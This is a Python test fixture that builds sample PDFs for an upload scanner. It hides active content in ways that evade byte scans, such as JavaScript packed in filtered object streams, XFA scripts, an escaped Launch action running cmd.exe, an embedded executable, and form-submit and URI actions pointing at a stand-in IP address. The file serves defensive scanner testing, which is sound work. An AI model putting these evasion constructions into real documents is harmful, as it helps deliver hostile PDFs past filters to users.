"""Hand-built PDFs for the upload checks: active content hidden the ways a byte scan misses it.

Each file is framed as a viewer reads it: a cross-reference stream lists the objects in the file's
body and those packed into an object stream, so a catalogue's reference to an action packed there
is what a viewer follows.  Plain functions, no pytest.
"""

import io
import zlib
from dataclasses import dataclass

from tests import scan_samples

PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
SCRIPT = b"<< /S /JavaScript /JS (app.launchURL('http://example.com/x');) >>"


@dataclass(frozen=True)
class Packing:
    """How the object stream is written: its filters, extra dictionary entries and end of line."""

    filters: bytes = b"/FlateDecode"
    extra: bytes = b""
    after_stream_keyword: bytes = b"\n"
    predictor_columns: int = 0


def build(
    body: dict[int, bytes], packed: dict[int, bytes] | None = None, packing: Packing = Packing()
) -> bytes:
    """Return a PDF 1.5 file: objects numbered as in body (1 is the catalogue), those in packed inside
    one object stream, indexed by a cross-reference stream."""
    packed = packed or {}
    objects = dict(body)
    stream_number = max([*body, *packed]) + 1
    if packed:
        objects[stream_number] = _object_stream(packed, packing)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    xref_number = stream_number + 1
    size = xref_number + 1
    rows = bytearray()
    for number in range(size):
        if number in offsets:
            rows += bytes([1]) + offsets[number].to_bytes(4, "big") + (0).to_bytes(2, "big")
        elif number in packed:
            index = sorted(packed).index(number)
            rows += bytes([2]) + stream_number.to_bytes(4, "big") + index.to_bytes(2, "big")
        elif number == xref_number:
            rows += bytes([1]) + len(out).to_bytes(4, "big") + (0).to_bytes(2, "big")
        else:
            rows += bytes([0]) + (0).to_bytes(4, "big") + (65535 if number == 0 else 0).to_bytes(2, "big")
    xref_offset = len(out)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % (
        xref_number,
        size,
        len(rows),
    )
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def _object_stream(packed: dict[int, bytes], packing: Packing) -> bytes:
    header = b""
    objects = b""
    for number in sorted(packed):
        header += b"%d %d " % (number, len(objects))
        objects += packed[number] + b"\n"
    data = header + objects
    first = len(header)
    decode_parms = b""
    if packing.predictor_columns:
        data = _png_up_rows(data, packing.predictor_columns)
        decode_parms = b" /DecodeParms << /Predictor 12 /Columns %d >>" % packing.predictor_columns
    data = _encode(data, packing.filters)
    return (
        b"<< /Type /ObjStm /N %d /First %d /Filter %s%s /Length %d%s >>\nstream"
        % (len(packed), first, packing.filters, decode_parms, len(data), packing.extra)
        + packing.after_stream_keyword
        + data
        + b"\nendstream"
    )


def _encode(data: bytes, filters: bytes) -> bytes:
    names = filters.strip(b"[]").split()
    # Filters are listed in decoding order, so the last one listed was applied first.
    for name in reversed(names):
        if name == b"/FlateDecode":
            data = zlib.compress(data)
        elif name == b"/ASCIIHexDecode":
            data = data.hex().encode() + b">"
        else:
            raise ValueError(name)
    return data


def _png_up_rows(data: bytes, columns: int) -> bytes:
    """Return data as PNG rows with the Up predictor (each byte minus the one above it)."""
    data += b" " * (-len(data) % columns)
    previous = bytes(columns)
    out = bytearray()
    for start in range(0, len(data), columns):
        row = data[start : start + columns]
        out += b"\x02" + bytes((value - above) % 256 for value, above in zip(row, previous, strict=True))
        previous = row
    return bytes(out)


def _catalogue(extra: bytes) -> bytes:
    return b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>"


def _script_in_object_stream(packing: Packing) -> bytes:
    return build({1: _catalogue(b"/OpenAction 4 0 R"), 2: PAGES, 3: PAGE}, {4: SCRIPT}, packing)


XFA_TEMPLATE = (
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
    b'<script contentType="application/x-javascript">app.alert(1)</script></event></subform>'
    b"</template></xdp:xdp>"
)

HOSTILE = {
    "object-stream-with-extra-keys": _script_in_object_stream(
        Packing(extra=b" /DL 120 /Producer (obj) /Note << /A [1 2 3] >>")
    ),
    "long-stream-dictionary": _script_in_object_stream(Packing(extra=b" /Padding (" + b"x" * 5000 + b")")),
    "flate-chain": _script_in_object_stream(Packing(filters=b"[/FlateDecode /FlateDecode]")),
    "ascii-hex": _script_in_object_stream(Packing(filters=b"/ASCIIHexDecode")),
    "hex-then-flate": _script_in_object_stream(Packing(filters=b"[/ASCIIHexDecode /FlateDecode]")),
    "png-predictor": _script_in_object_stream(Packing(predictor_columns=7)),
    "stream-then-cr": _script_in_object_stream(Packing(after_stream_keyword=b"\r")),
    "xfa-script": build(
        {
            1: _catalogue(b"/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>"),
            2: PAGES,
            3: PAGE,
            4: b"<< /Length %d >>\nstream\n" % len(XFA_TEMPLATE) + XFA_TEMPLATE + b"\nendstream",
        }
    ),
    "open-action-uri": build(
        {1: _catalogue(b"/OpenAction << /S /URI /URI (http://198.51.100.1/track) >>"), 2: PAGES, 3: PAGE}
    ),
    "page-aa-submit-form": build(
        {
            1: _catalogue(b""),
            2: PAGES,
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>",
        },
        {4: b"<< /S /SubmitForm /F << /FS /URL /F (http://198.51.100.1/collect) >> /Flags 4 >>"},
    ),
    "annotation-import-data": build(
        {
            1: _catalogue(b""),
            2: PAGES,
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
            4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /ImportData /F (data.fdf) >> >>",
        }
    ),
    "launch-escaped-name": build(
        {1: _catalogue(b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"), 2: PAGES, 3: PAGE}
    ),
    "names-tree-javascript": build(
        {1: _catalogue(b"/Names << /JavaScript 4 0 R >>"), 2: PAGES, 3: PAGE},
        {4: b"<< /Names [(x) << /S /JavaScript /JS (1) >>] >>"},
    ),
    "embedded-file": build(
        {
            1: _catalogue(b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>"),
            2: PAGES,
            3: PAGE,
            4: b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
            5: b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        }
    ),
    "unreferenced-script": build(
        {1: _catalogue(b""), 2: PAGES, 3: PAGE}, {4: b"<< /Type /Action /S /JavaScript /JS (1) >>"}
    ),
}


def scanned_pdf() -> bytes:
    """Return a scanned licence as a scanner writes it: one page holding one JPEG image."""
    page = scan_samples.render_scan(dpi=150)
    buffer = io.BytesIO()
    page.convert("L").save(buffer, "PDF", resolution=150)
    return buffer.getvalue()


def packed_clean_pdf() -> bytes:
    """Return a PDF with harmless objects packed in an object stream, an in-document link and an
    outline (GoTo actions and destinations only)."""
    return build(
        {
            1: _catalogue(
                b"/Outlines 5 0 R /OpenAction [3 0 R /Fit] /PageLabels << /Nums [0 << /S /D >>] >>"
            ),
            2: PAGES,
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        },
        {
            4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /BS << /S /S /W 0 >> /A << /S /GoTo /D [3 0 R /Fit] >> >>",
            5: b"<< /Type /Outlines /Count 0 >>",
        },
        Packing(filters=b"[/FlateDecode /FlateDecode]"),
    )
